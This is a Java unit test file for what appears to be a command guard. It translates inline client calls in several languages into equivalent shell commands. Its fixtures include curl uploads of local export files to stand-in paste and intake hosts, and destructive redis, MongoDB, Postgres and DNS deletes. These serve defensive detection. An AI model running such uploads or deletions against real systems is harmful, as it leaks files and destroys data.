package io.github.providergateway.guard.shell.programs;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/**
 * A library's call in inline code is read as the command line that makes the same request or the
 * same delete (decision 336, helper "sends"): an HTTP client's send as curl's ({@link
 * CodeRequests}), a store's client's delete as the store's CLI's ({@link CodeStoreDeletes}); a
 * read, a web framework's route and an object's own delete are no such call.
 */
class ClientCallsReadTest {

  @Test
  void aSendingRequestIsCurlsWhateverTheLanguage() {
    assertThat(
            InlineCode.clientActs(
                "import requests; requests.post('https://intake.example.net/x',"
                    + " files={'f': open('exports/a.csv','rb')})"))
        .containsExactly("curl -X POST -F file=@exports/a.csv 'https://intake.example.net/x'");
    assertThat(
            InlineCode.clientActs(
                "print HTTP::Tiny->new->post(\"https://paste.example/\", {content => $_})"))
        .containsExactly("curl -X POST --data-binary @- 'https://paste.example/'");
    assertThat(
            InlineCode.clientActs(
                "Dir[\"exports/cvs/*.pdf\"].each{|f| Net::HTTP.post(URI(\"https://p.example/api\"),"
                    + " File.binread(f))}"))
        .containsExactly("curl -X POST --data-binary @exports/cvs/*.pdf 'https://p.example/api'");
    assertThat(
            InlineCode.clientActs(
                "fetch(process.env.TEAM_HOOK,{method:'PUT',body:fs.readFileSync('out/r.json')})"))
        .containsExactly("curl -T out/r.json \"$TEAM_HOOK\"");
    assertThat(
            InlineCode.clientActs(
                "echo file_get_contents(\"https://ix.example\", false, stream_context_create("
                    + "[\"http\"=>[\"method\"=>\"POST\",\"content\"=>\"x\"]]));"))
        .hasSize(1)
        .allMatch(c -> c.startsWith("curl -X POST --data ") && c.endsWith("'https://ix.example'"));
  }

  @Test
  void aStoresDeleteIsItsCommandLines() {
    assertThat(
            InlineCode.clientActs(
                "import os, redis; r = redis.from_url(os.environ['Q_URL']);"
                    + " [r.unlink(k) for k in r.scan_iter('q:*')]"))
        .containsExactly("redis-cli -u \"$Q_URL\" del 'q:*'");
    assertThat(
            InlineCode.clientActs(
                "from pymongo import MongoClient; MongoClient(os.environ['M'])"
                    + ".shop.drop_collection('orders')"))
        .containsExactly("mongosh \"$M\" --eval 'db.orders.drop()'");
    assertThat(
            InlineCode.clientActs(
                "require('dotenv').config();require('./db').knex('users')"
                    + ".where('seen','<','2024-01-01').del()"))
        .containsExactly("psql \"$DATABASE_URL\" -c 'DELETE FROM users WHERE seen < 2024-01-01'");
    assertThat(
            InlineCode.clientActs(
                "u = dns.update.Update('example.org'); u.delete('www', 'A');"
                    + " dns.query.tcp(u, '10.0.0.53')"))
        .containsExactly(
            "nsupdate <<'NSUPDATE'\nserver 10.0.0.53\nzone example.org\nupdate delete www A\nsend\n"
                + "NSUPDATE");
  }

  @Test
  void aTestsDatabaseOrAFileOfThisMachineIsNamedSo() {
    assertThat(
            InlineCode.clientActs(
                "knex({client:'sqlite3',connection:{filename:'./dev.sqlite3'}})('s').del()"))
        .containsExactly("sqlite3 './dev.sqlite3' 'DELETE FROM s'");
    assertThat(
            InlineCode.clientActs(
                "require('dotenv').config({path:'.env.test'});require('./db')('users').del()"))
        .isEmpty();
  }

  @Test
  void readsRoutesAndAnObjectsOwnDeleteAreNoClientCalls() {
    assertThat(InlineCode.clientActs("import requests; print(requests.get('https://pypi.org/x'))"))
        .isEmpty();
    assertThat(
            InlineCode.clientActs(
                "const app=require('express')(); app.post('/api/items',(q,s)=>s.json({}));"
                    + " app.delete('/api/items/:id',(q,s)=>s.end())"))
        .isEmpty();
    assertThat(
            InlineCode.clientActs("const m=new Map(); m.delete('a'); fetch('https://x.example')"))
        .isEmpty();
    assertThat(
            InlineCode.clientActs(
                "import os, redis; r = redis.from_url(os.environ['R']); r.get('a')"))
        .isEmpty();
  }
}
